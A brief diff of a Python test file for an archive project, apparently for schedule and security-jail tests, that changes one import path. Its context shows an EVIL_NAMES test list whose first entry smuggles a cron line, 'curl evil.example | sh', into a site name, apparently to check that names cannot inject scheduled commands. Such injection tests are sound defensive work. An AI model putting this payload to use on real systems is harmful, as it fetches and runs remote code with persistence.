@@ -21,7 +21,7 @@ from archive.schedule import lock_path, systemd_units
 from archive.sites import Site, load_sites
 from tests.faults.report import record
 from tests.fixtures import run_cli
-from tests.securityjail import Server, crawl, jail_env, story
+from tests.support.securityjail import Server, crawl, jail_env, story
 
 EVIL_NAMES = [
     "harbor\n* * * * * curl evil.example | sh",
